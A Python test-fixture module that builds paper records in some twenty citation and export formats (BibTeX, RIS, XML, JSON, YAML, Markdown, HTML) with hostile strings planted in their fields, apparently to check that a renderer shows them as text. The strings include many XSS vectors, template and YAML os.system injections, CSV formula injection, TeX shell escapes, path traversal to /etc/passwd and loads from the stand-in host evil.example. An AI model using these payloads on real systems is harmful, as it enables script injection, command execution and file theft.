"""Papers whose texts are meant to do harm, in every format that is read.

`SHAPES` are texts that are code somewhere: in HTML, Markdown, YAML, a template, a script, a
formula, an address. Each stands between two words of its own, in a field of a record, so
that a test can ask of the page: is the text there, as text, and did nothing run?

What runs calls `__hit(...)` or asks `evil.example` for something; a browser test listens.
"""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from html import escape

import yaml

HIT = "__hit(1)"
HOST = "https://evil.example"

MARKUP = [
    f"<script>{HIT}</script>",
    f"<ScRiPt >{HIT}</sCrIpT >",
    f"<script src={HOST}/a.js></script>",
    f"<script\n>{HIT}</script\n>",
    f"<scr<script>ipt>{HIT}</scr</script>ipt>",
    f"<img src=x onerror={HIT}>",
    f'<img src="x"onerror="{HIT}">',
    f"<img/src=x/onerror={HIT}//",
    f"<img src=x onerror={HIT}",
    f"<svg onload={HIT}>",
    f"<svg><script>{HIT}</script></svg>",
    f"<svg><animate onbegin={HIT} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{HIT}><text y=9>press</text></a></svg>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{HIT}>press</maction></math>",
    f"<math href=javascript:{HIT}>press</math>",
    f"<body onload={HIT}>",
    f"<details open ontoggle={HIT}>more</details>",
    f"<input autofocus onfocus={HIT}>",
    f"<video><source onerror={HIT}></video>",
    f"<audio src=x onerror={HIT}></audio>",
    f"<marquee onstart={HIT}>moves</marquee>",
    f"<a href=javascript:{HIT}>press</a>",
    f"<a href='java&#x09;script:{HIT}'>press</a>",
    f"<form action=javascript:{HIT}><button>press</button></form>",
    f"<button formaction=javascript:{HIT}>press</button>",
    f"<iframe src=javascript:{HIT}></iframe>",
    f"<iframe srcdoc='<script>parent.{HIT}</script>'></iframe>",
    f"<object data=javascript:{HIT}></object>",
    f"<embed src=javascript:{HIT}>",
    f"<base href={HOST}/>",
    f"<link rel=stylesheet href={HOST}/a.css>",
    f"<style>@import '{HOST}/a.css';</style>",
    f"<p style=\"background:url('{HOST}/a.png')\">styled</p>",
    f"<meta http-equiv=refresh content='0;url={HOST}'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{HIT}'>",
    f"<!-- --><script>{HIT}</script>",
    f"<!--><script>{HIT}</script>-->",
    f"--><script>{HIT}</script><!--",
    f"<![CDATA[<script>{HIT}</script>]]>",
    f"]]><script>{HIT}</script>",
    f"<?php {HIT} ?><%= {HIT} %>",
    f"</title><script>{HIT}</script>",
    f"</textarea><script>{HIT}</script>",
    f"</style><script>{HIT}</script>",
    f"</template><script>{HIT}</script>",
    f'"><script>{HIT}</script>',
    f"'><script>{HIT}</script>",
    f'" onmouseover="{HIT}" x="',
    f"' onfocus='{HIT}' tabindex='0' autofocus x='",
    f"` onerror={HIT} `",
    f'"}}]}}</script><script>{HIT}</script>',
    f"<noscript><p title='</noscript><img src=x onerror={HIT}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={HIT}>",
    f"<svg></p><style><a id='</style><img src=x onerror={HIT}>'>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror={HIT}>'>",
    f"<table><td><script>{HIT}</script>",
    f"<select><option><script>{HIT}</script>",
    f"<plaintext><script>{HIT}</script>",
    f"<xmp><script>{HIT}</script></xmp>",
    f"<dialog open><button autofocus onfocus={HIT}>x</button></dialog>",
    f"<div popover id=p onbeforetoggle={HIT}></div>",
    f"<custom-element onclick={HIT} tabindex=0>press</custom-element>",
    f"&lt;script&gt;{HIT}&lt;/script&gt;",
    f"&#60;script&#62;{HIT}&#60;/script&#62;",
    f"&amp;lt;img src=x onerror={HIT}&amp;gt;",
    f"\uff1cscript\uff1e{HIT}\uff1c/script\uff1e",
    "<kernel> and <workload, configuration> and a<b and b>c",
]
"""HTML and what a browser makes of it."""

MARKDOWN = [
    f"[press](javascript:{HIT})",
    f"[press]( java\tscript:{HIT} )",
    f"[press](data:text/html,<script>{HIT}</script>)",
    f"[press](vbscript:{HIT})",
    f'[press](x "t\\" onmouseover={HIT}")',
    f"![alt]({HOST}/a.png)",
    f'![x" onerror="{HIT}](x)',
    f"<javascript:{HIT}>",
    f"<{HOST}/auto>",
    f"[ref]: javascript:{HIT}",
    f"text {{: onclick={HIT} }}",
    f"text{{ onclick='{HIT}' style='x' }}",
    f"# heading {{#id onclick={HIT}}}",
    "#!python import os",
    "**bold** _em_ ~~gone~~ ==mark== ^^up^^ 8*16B 8*16B a_b_c",
    f"```js {{ onclick={HIT} }}",
    f"~~~\n{HIT}\n~~~",
    f"`code` ``<img onerror={HIT}>``",
    '--8<-- "mkdocs.yml"',
    ";--8<-- 'permalinks.json'",
    f'!!! danger "<img src=x onerror={HIT}>"',
    f'??? note "{HIT}"',
    f'=== "tab <img src=x onerror={HIT}>"',
    f"*[HTML]: <img src=x onerror={HIT}>",
    f"[^1] and [^1]: <img src=x onerror={HIT}>",
    ":smile: :material-alert: :x:",
    "(c) (r) (tm) +/- -- --- ... 1/2 -->",
    "{++in++} {--out--} {==mark==} {>>note<<} {~~a~>b~~}",
    f"| a | b |\n|---|---|\n| <img src=x onerror={HIT}> | c |",
    "- [ ] task\n- [x] done",
    "1. one\n2. two",
    "> quote\n> quote",
    "Setext\n======",
    "term\n:   definition",
    "[TOC] [[wiki]] [[toc]]",
    "++ctrl+alt+del++ H~2~O x^2^",
    f"[press][evil] <a id=evil href=javascript:{HIT}>",
    "\\<script\\> \\[x\\](y) \\{\\{ z \\}\\}",
    "    indented code",
    "***\n___\n---",
]
"""Markdown and the extensions that people use."""

TEMPLATES = [
    "{{ 7*7 }} {{ config }} {{ self.__init__ }}",
    "{% for x in [1] %}{% endfor %} {% raw %} {# gone #}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% include '/etc/passwd' %} {% extends 'x' %}",
    "${7*7} #{7*7} <%= 7*7 %> {{{x}}} [[x]]",
    "{{< figure >}} {{% x %}} %(x)s {x} {0.__class__} %s %n",
    "%{x} $(id) `id` ${IFS} ;id| &&id",
    "--- template: evil.html ---",
    "---\ntemplate: evil.html\n---",
    "title: x\nsearch: {exclude: true}\nrender_macros: true",
    "!!python/object/apply:os.system ['id']",
    "!ENV HOME &anchor *anchor <<: *anchor",
    "null ~ true NO 1e3 0x10 2024-01-01 012",
    "key: value: other # comment",
    "? [complex]\n: {flow: [x",
    '"quoted" \'quoted\' "unbalanced',
    "@at `tick` %percent |pipe >fold -dash ,comma",
]
"""What template engines, shells and YAML act on."""

FORMULAS = [
    f"$\\href{{javascript:{HIT}}}{{x}}$",
    f"$\\url{{javascript:{HIT}}}$",
    f"$\\htmlData{{onclick={HIT}}}{{x}}$ $\\cssId{{evil}}{{x}}$ $\\class{{evil}}{{x}}$",
    f"$\\style{{background:url({HOST})}}{{x}}$",
    "$\\unicode{<img src=x onerror=__hit(1)>}$",
    f"$\\text{{<img src=x onerror={HIT}>}}$",
    f"$a<img src=x onerror={HIT}>b$",
    "$\\includegraphics{/etc/passwd} \\input{/etc/passwd}$",
    "$\\def\\a{\\a\\a}\\a$ $\\newcommand{\\b}{\\b}\\b$ \\require{html}",
    "$\\rule{500em}{500em}$ $\\kern-999em$",
    "$" + "{" * 200 + "x" + "}" * 200 + "$",
    f"\\begin{{a}}<script>{HIT}</script>\\end{{a}}",
    f"\\(<img src=x onerror={HIT}>\\) \\[<svg onload={HIT}>\\]",
    f"$$x$$ <img src=x onerror={HIT}> $$y$$",
    "\\catcode`\\<=13 \\write18{id} \\openout\\x=y",
]
"""TeX that leaves the formula."""

SIGNS = [
    "\u202eevil\u202c \u2066isolated\u2069 \u200fmark",
    "a\u2028b\u2029c\u0085d",
    "nul\x00bell\x07escape\x1b[31mred\x1b[0mdel\x7f",
    "\ufeffbom \u200bzero\u200dwidth \u00adsoft",
    "p\u0430ypal \u0399dentical Kelvin",
    "\U000e0001\U000e0041 tag \ufffe\uffff non",
    "e\u0301 \u00e9 \ufb01 \u00df SS \u0130 i\u0307",
    "z\u0335\u0321\u034f\u0489" * 20,
    "\u0645\u0642\u0627\u0644\u0629 \u05de\u05d0\u05de\u05e8 abc",
    "\u8bba\u6587 \u30bf\u30a4\u30c8\u30eb \U0001f600\U0001f469\u200d\U0001f52c",
    "=cmd|'/c calc'!A0",
    "+1+cmd|x @SUM(1) -2+3 \t=1",
    "@article{evil, title={x}} \\end{document} %comment",
    "ER  - \nTY  - JOUR\nTI  - Evil",
    "%0 Journal %T Evil",
    "../../../../etc/passwd ..\\..\\windows C:\\x /etc/passwd",
    "CON AUX NUL COM1 index 404 .git ~ -rf",
    "x" * 3000,
    "word " * 2000,
]
"""Signs that mislead, end lines, or are code in what we export."""

ADDRESSES = [
    f"javascript:{HIT}",
    f"JaVaScRiPt:{HIT}",
    f"java\tscript:{HIT}",
    f" \x01javascript:{HIT}",
    f"javascript&colon;{HIT}",
    f"javascript://x.org/%0A{HIT}",
    f"data:text/html,<script>{HIT}</script>",
    "data:text/html;base64,PHNjcmlwdD5fX2hpdCgxKTwvc2NyaXB0Pg==",
    f"vbscript:{HIT}",
    "file:///etc/passwd",
    "blob:https://x.org/1",
    f'https://x.org/" onmouseover="{HIT}',
    f"https://x.org/'><script>{HIT}</script>",
    "https://x.org/\nSet-Cookie:a=b",
    "//evil.example/x",
    "https:evil.example",
    "\\\\evil.example\\x",
    "https://user:pass@evil.example/",
    "https://[::1]:99999/ https://[bad",
    "ftp://x.org/ mailto:a@b?body=<script>",
    "#evil ?evil ../../evil",
]
"""What stands where an address should."""

TEXTS = [*MARKUP, *MARKDOWN, *TEMPLATES, *FORMULAS, *SIGNS]


@dataclass(frozen=True)
class Hostile:
    """A file with one hostile record: where the shape stands, and between which words."""

    number: int
    format: str
    field: str
    shape: str
    text: str
    words: tuple[str, str]

    @property
    def name(self) -> str:
        return f"{self.format}-{self.number:05d}.txt"


Write = Callable[[dict[str, str]], str]


def _line(text: str) -> str:
    """Text as formats of lines can hold it."""
    return " ".join(text.split("\n")).replace("\r", " ")


def _tags(layout: str) -> Write:
    return lambda paper: layout.format(**{name: _line(text) for name, text in paper.items()})


def _xml_text(text: str) -> str:
    """Text that an XML file can hold; escaped."""
    allowed = "".join(c for c in text if c in "\t\n" or " " <= c <= "\ud7ff" or c >= "\ue000")
    return escape(allowed.replace("\ufffe", "").replace("\uffff", ""))


def _xml(layout: str) -> Write:
    return lambda paper: layout.format(**{name: _xml_text(text) for name, text in paper.items()})


_LATEX = {c: f"\\{c}" for c in "{}$&#_%"} | {
    "\\": "\\textbackslash{}", "~": "\\textasciitilde{}", "^": "\\textasciicircum{}"
}  # fmt: skip


def _bibtex(paper: dict[str, str]) -> str:
    """An entry whose texts LaTeX would print as they are, but for the formulas."""
    fields = {name: "".join(_LATEX.get(c, c) for c in text) for name, text in paper.items()}
    fields["url"] = paper["url"].replace("{", "").replace("}", "")
    names = {"tag": "keywords"}
    lines = "".join(f" {names.get(name, name)} = {{{text}}},\n" for name, text in fields.items())
    return f"@article{{x,\n{lines}}}\n"


def _json(paper: dict[str, str]) -> dict[str, object]:
    return {
        "title": paper["title"],
        "abstract": paper["abstract"],
        "authors": [paper["author"]],
        "keywords": [paper["tag"]],
        "url": paper["url"],
    }


def _csv(paper: dict[str, str]) -> str:
    cells = ['"' + text.replace('"', '""') + '"' for text in paper.values()]
    return f"Title,Abstract,Authors,Keywords,URL\n{','.join(cells)}\n"


def _yaml(paper: dict[str, str]) -> str:
    """YAML by a program that knows it; PyYAML has its own idea of what can be shown."""
    return "---\n" + yaml.safe_dump(_json(paper), allow_unicode=True, width=9999) + "---\n"


def _markdown(paper: dict[str, str]) -> str:
    """A list item; what Markdown would act on has a backslash before it."""
    found = {
        name: re.sub(r"([!-/:-@\[-`{-~])", r"\\\1", _line(text)) for name, text in paper.items()
    }
    layout = "# Papers\n\n- [{title}](https://arxiv.org/abs/2101.{abstract}) by {author} ({tag})\n"
    return layout.format(**found)


WRITERS: dict[str, Write] = {
    "listing": _tags(
        "Get trending papers in your email inbox!\n\nSubscribe\n\nMar 14\n\n"
        "{title}\n\n{abstract} which stands here so that the line is long enough for one.\n"
    ),
    "bibtex": _bibtex,
    "ris": _tags(
        "TY  - JOUR\nTI  - {title}\nAU  - {author}\nKW  - {tag}\nUR  - {url}\n"
        "AB  - {abstract}\nER  - \n"
    ),
    "nbib": _tags("PMID- 1\nTI  - {title}\nFAU - {author}\nOT  - {tag}\nAB  - {abstract}\n"),
    "isi": _tags(
        "FN ISI Export Format\nVR 1.0\nPT J\nTI {title}\nAU {author}\nDE {tag}\nAB {abstract}\n"
        "ER\nEF\n"
    ),
    "endnote": _tags(
        "%0 Journal Article\n%T {title}\n%A {author}\n%K {tag}\n%U {url}\n%X {abstract}\n"
    ),
    "copac": _tags("TI- {title}\nAU- {author}\nPY- 2021\nKW- {tag}\nAB- {abstract}\n"),
    "inspec": _tags(
        "Record 1 of 1 - INSPEC 2021\n\nTI ~ {title}\nAU ~ {author}\nPY ~ 2021\nAB ~ {abstract}\n"
    ),
    "smart": _tags(".I 1\n.T\n{title}\n.A\n{author}\n.W\n{abstract}\n"),
    "endnote-xml": _xml(
        "<xml><records><record><contributors><authors><author>{author}</author></authors>"
        "</contributors><titles><title>{title}</title></titles><keywords><keyword>{tag}</keyword>"
        "</keywords><urls><related-urls><url>{url}</url></related-urls></urls>"
        "<abstract>{abstract}</abstract></record></records></xml>"
    ),
    "pubmed-xml": _xml(
        "<PubmedArticleSet><PubmedArticle><MedlineCitation><PMID>1</PMID><Article>"
        "<ArticleTitle>{title}</ArticleTitle><Abstract><AbstractText>{abstract}</AbstractText>"
        "</Abstract><AuthorList><Author><CollectiveName>{author}</CollectiveName></Author>"
        "</AuthorList></Article></MedlineCitation></PubmedArticle></PubmedArticleSet>"
    ),
    "mods": _xml(
        '<mods xmlns="http://www.loc.gov/mods/v3"><titleInfo><title>{title}</title></titleInfo>'
        "<name><namePart>{author}</namePart></name><subject><topic>{tag}</topic></subject>"
        "<location><url>{url}</url></location><abstract>{abstract}</abstract></mods>"
    ),
    "acl-xml": _xml(
        "<collection id='2021.x'><volume id='1'><paper id='1'><title>{title}</title>"
        "<author><first>A</first><last>{author}</last></author><abstract>{abstract}</abstract>"
        "</paper></volume></collection>"
    ),
    "atom": _xml(
        '<feed xmlns="http://www.w3.org/2005/Atom"><entry><title>{title}</title>'
        '<author><name>{author}</name></author><link href="{url}"/><category term="{tag}"/>'
        "<summary>{abstract}</summary></entry></feed>"
    ),
    "rss": lambda paper: _xml(
        '<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/"><channel><item><title>{title}</title><link>{url}</link>'
        "<category>{tag}</category><dc:creator>{author}</dc:creator><description>{abstract}</description></item></channel></rss>"
    )({**paper, "abstract": escape(paper["abstract"])}),
    "jsonl": lambda paper: json.dumps(_json(paper), ensure_ascii=False) + "\n",
    "json": lambda paper: json.dumps([_json(paper)], indent=1),
    "table": _csv,
    "yaml": _yaml,
    "markdown": _markdown,
    "html": lambda paper: (
        "<html><head>\n"
        + "".join(
            f'<meta name="citation_{name}" content="{escape(paper[field])}">\n'
            for name, field in (
                ("title", "title"), ("author", "author"), ("keywords", "tag"),
                ("pdf_url", "url"), ("abstract", "abstract"),
            )
        )
        + "</head><body></body></html>\n"
    ),
}  # fmt: skip
"""How a record is written in each format, as a program that knows the format would."""

FIELDS = ("title", "abstract", "author", "tag")


_HELD = {"markdown": 1, "listing": 2, "inspec": 3, "smart": 3, "pubmed-xml": 3, "acl-xml": 3}
"""How many of the fields a format's files hold here, where it is not all."""


def corpus() -> Iterator[tuple[Hostile, str]]:
    """Every shape in every format, the field changing from one to the next; and each file."""
    number = 0
    for at, (format, write) in enumerate(WRITERS.items()):
        fields = FIELDS[: _HELD.get(format, 4)]
        for turn, shape in enumerate((*TEXTS, *ADDRESSES)):
            is_address = turn >= len(TEXTS)
            field = "url" if is_address else fields[(turn + at) % len(fields)]
            words = (f"qa{number}za", f"qb{number}zb")
            text = shape if is_address else f"{words[0]} {shape} {words[1]}"
            paper = {
                "title": f"Plain title {words[0]} of number {number}",
                "abstract": f"Plain abstract of number {number}.",
                "author": f"Author{number}",
                "tag": f"tag{number}",
                "url": "https://x.org/plain",
            }
            if format == "markdown":
                paper["abstract"] = f"{number:05d}"
            yield Hostile(number, format, field, shape, text, words), write({**paper, field: text})
            number += 1
